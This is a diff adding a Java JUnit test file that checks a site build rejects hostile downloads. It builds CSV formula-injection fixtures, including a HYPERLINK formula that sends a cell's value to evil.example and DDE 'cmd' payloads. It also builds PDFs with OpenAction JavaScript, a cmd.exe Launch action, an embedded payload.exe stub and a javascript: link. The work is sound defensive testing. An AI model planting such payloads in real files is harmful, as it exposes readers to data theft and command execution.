@@ -1,0 +1,194 @@
+package org.explainers.content;
+
+import org.apache.pdfbox.cos.COSName;
+import org.apache.pdfbox.pdmodel.PDDocument;
+import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
+import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
+import org.apache.pdfbox.pdmodel.PDPage;
+import org.apache.pdfbox.pdmodel.PDPageContentStream;
+import org.apache.pdfbox.pdmodel.common.PDRectangle;
+import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
+import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
+import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
+import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
+import org.apache.pdfbox.pdmodel.font.PDType1Font;
+import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
+import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
+import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
+import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
+import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
+import org.explainers.fixtures.Fixture;
+import org.explainers.pipeline.Build;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.List;
+import java.util.function.Consumer;
+
+import static org.junit.jupiter.api.Assertions.assertArrayEquals;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+/**
+ * Downloads are published as they are, so they are read first (an attacker's trial: a CSV of
+ * formulas and a PDF that ran JavaScript on opening were published unchanged): a CSV's cells
+ * start with no formula, with whatever separator a spreadsheet reads them; a PDF runs nothing,
+ * attaches nothing and submits nothing, wherever in its objects (compressed ones too) that is.
+ */
+class DownloadsTest {
+
+    private static final String DIR = "content/articles/a/";
+
+    private static Fixture linking(Path tmp, String... files) {
+        Fixture f = ContentChecksTest.validTree(tmp);
+        StringBuilder links = new StringBuilder();
+        for (String file : files) {
+            links.append("[").append(file).append("](").append(file).append(") ");
+        }
+        f.write(HostileInputTest.ONE, ContentChecksTest.section(1, "", links + "\n"));
+        return f;
+    }
+
+    private static List<String> failing(Fixture f) {
+        Build.Result r = f.build();
+        assertFalse(r.ok(), "the build must fail:\n" + f.log());
+        assertFalse(Files.exists(f.site()), "nothing was published");
+        return Fixture.messages(r);
+    }
+
+    private static void has(List<String> messages, String expected) {
+        assertTrue(messages.stream().anyMatch(m -> m.startsWith(expected)), "expected " + expected + "\ngot:\n  " + String.join("\n  ", messages));
+    }
+
+    @Test
+    void aTableOfDataIsPublishedAsItIs(@TempDir Path tmp) throws IOException {
+        Fixture f = linking(tmp, "data.csv");
+        String csv = "\uFEFFcountry,change,phone,note\nUkraine,-12.5,+44 20 7946 0000,\"said \"\"no\"\", then yes\"\nRussia,+3%,,-\n";
+        f.write(DIR + "data.csv", csv);
+        assertTrue(f.build().ok(), f.log());
+        assertEquals(csv, Files.readString(f.site().resolve("articles/a/data.csv"), StandardCharsets.UTF_8));
+    }
+
+    @Test
+    void aCellThatAGivenSpreadsheetRunsAsAFormulaIsRefusedAtItsLine(@TempDir Path tmp) {
+        Fixture f = linking(tmp, "data.csv", "semi.csv", "latin.csv", "broken.csv");
+        f.write(DIR + "data.csv", "name,link\nok,1\nleak,\"=HYPERLINK(\"\"https://evil.example/?\"\"&A2,\"\"x\"\")\"\ncalc,-2+3+cmd|' /C calc'!A0\n"
+                + "sum,@SUM(1+1)*cmd|' /C calc'!A0\nspace, =1+1\n");
+        f.write(DIR + "semi.csv", "name;value\nx;=1+1\n");
+        f.writeBytes(DIR + "latin.csv", "name\ncaf\u00e9\n".getBytes(StandardCharsets.ISO_8859_1));
+        f.write(DIR + "broken.csv", "a,b\n\"unclosed,1\n");
+        List<String> m = failing(f);
+        has(m, DIR + "data.csv:3: the cell `=HYPERLINK(\"https://evil.example/?\"&A2,\"x\")` starts with `=`: a spreadsheet opening the"
+                + " download runs it as a formula");
+        has(m, DIR + "data.csv:4: the cell `-2+3+cmd|' /C calc'!A0` starts with `-`");
+        has(m, DIR + "data.csv:5: the cell `@SUM(1+1)*cmd|' /C calc'!A0` starts with `@`");
+        has(m, DIR + "data.csv:6: the cell `=1+1` starts with `=`");
+        has(m, DIR + "semi.csv:2: the cell `=1+1` starts with `=`");
+        has(m, DIR + "latin.csv: is not UTF-8 text (save the table as \"CSV UTF-8\"");
+        has(m, DIR + "broken.csv: is not a well-formed CSV table");
+    }
+
+    @Test
+    void aPlainPdfIsPublishedAsItIs(@TempDir Path tmp) throws IOException {
+        Fixture f = linking(tmp, "sources.pdf");
+        byte[] pdf = pdf(d -> {
+            PDAnnotationLink link = new PDAnnotationLink();
+            link.setRectangle(new PDRectangle(50, 50, 100, 20));
+            PDActionURI uri = new PDActionURI();
+            uri.setURI("https://example.org/source");
+            link.setAction(uri);
+            annotate(d, link);
+        });
+        f.writeBytes(DIR + "sources.pdf", pdf);
+        assertTrue(f.build().ok(), f.log());
+        assertArrayEquals(pdf, Files.readAllBytes(f.site().resolve("articles/a/sources.pdf")));
+        assertTrue(f.build().ok(), "again, from the cache of files that passed: " + f.log());
+    }
+
+    @Test
+    void aPdfThatRunsAttachesOrLaunchesIsRefusedWhereverItSaysSo(@TempDir Path tmp) throws IOException {
+        Fixture f = linking(tmp, "open.pdf", "launch.pdf", "attached.pdf", "locked.pdf", "fake.pdf", "js-link.pdf");
+        // Saved with compressed object streams (PDFBox 3's default): the action is not in the file's plain bytes.
+        f.writeBytes(DIR + "open.pdf", pdf(d -> d.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert(1)"))));
+        f.writeBytes(DIR + "launch.pdf", pdf(d -> {
+            PDAnnotationLink link = new PDAnnotationLink();
+            link.setRectangle(new PDRectangle(0, 0, 600, 800));
+            PDActionLaunch launch = new PDActionLaunch();
+            launch.getCOSObject().setString(COSName.F, "cmd.exe");
+            link.setAction(launch);
+            annotate(d, link);
+        }));
+        f.writeBytes(DIR + "attached.pdf", pdf(d -> {
+            try {
+                PDComplexFileSpecification spec = new PDComplexFileSpecification();
+                spec.setFile("payload.exe");
+                spec.setEmbeddedFile(new PDEmbeddedFile(d, new java.io.ByteArrayInputStream(new byte[]{'M', 'Z'})));
+                PDEmbeddedFilesNameTreeNode tree = new PDEmbeddedFilesNameTreeNode();
+                tree.setNames(java.util.Map.of("payload.exe", spec));
+                PDDocumentNameDictionary names = new PDDocumentNameDictionary(d.getDocumentCatalog());
+                names.setEmbeddedFiles(tree);
+                d.getDocumentCatalog().setNames(names);
+            } catch (IOException e) {
+                throw new java.io.UncheckedIOException(e);
+            }
+        }));
+        f.writeBytes(DIR + "locked.pdf", pdf(d -> {
+            try {
+                StandardProtectionPolicy policy = new StandardProtectionPolicy("owner", "secret", new AccessPermission());
+                policy.setEncryptionKeyLength(128);
+                d.protect(policy);
+            } catch (IOException e) {
+                throw new java.io.UncheckedIOException(e);
+            }
+        }));
+        f.write(DIR + "fake.pdf", "<html><script>alert(1)</script></html>\n");
+        f.writeBytes(DIR + "js-link.pdf", pdf(d -> {
+            PDAnnotationLink link = new PDAnnotationLink();
+            link.setRectangle(new PDRectangle(50, 50, 100, 20));
+            PDActionURI uri = new PDActionURI();
+            uri.setURI("javascript:alert(document.domain)");
+            link.setAction(uri);
+            annotate(d, link);
+        }));
+        List<String> m = failing(f);
+        has(m, DIR + "open.pdf: the PDF holds JavaScript, which a reader's PDF viewer would do on the site's address (print the document to a new PDF");
+        has(m, DIR + "open.pdf: the PDF runs an action when it is opened (/OpenAction)");
+        has(m, DIR + "launch.pdf: the PDF has a Launch action");
+        has(m, DIR + "attached.pdf: the PDF has files attached");
+        has(m, DIR + "locked.pdf: is protected by a password");
+        has(m, DIR + "fake.pdf: is not a PDF file (or it is damaged)");
+        has(m, DIR + "js-link.pdf: the PDF has a link to `javascript:alert(document.domain)`, which is not a web or mail address");
+    }
+
+    /** A one-page PDF with a line of text, changed by {@code change}, saved as PDFBox saves by default. */
+    private static byte[] pdf(Consumer<PDDocument> change) throws IOException {
+        try (PDDocument d = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
+            PDPage page = new PDPage();
+            d.addPage(page);
+            try (PDPageContentStream text = new PDPageContentStream(d, page)) {
+                text.beginText();
+                text.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
+                text.newLineAtOffset(72, 700);
+                text.showText("Sources of the explainer");
+                text.endText();
+            }
+            change.accept(d);
+            d.save(out);
+            return out.toByteArray();
+        }
+    }
+
+    private static void annotate(PDDocument d, PDAnnotationLink link) {
+        try {
+            d.getPage(0).getAnnotations().add(link);
+        } catch (IOException e) {
+            throw new java.io.UncheckedIOException(e);
+        }
+    }
+}
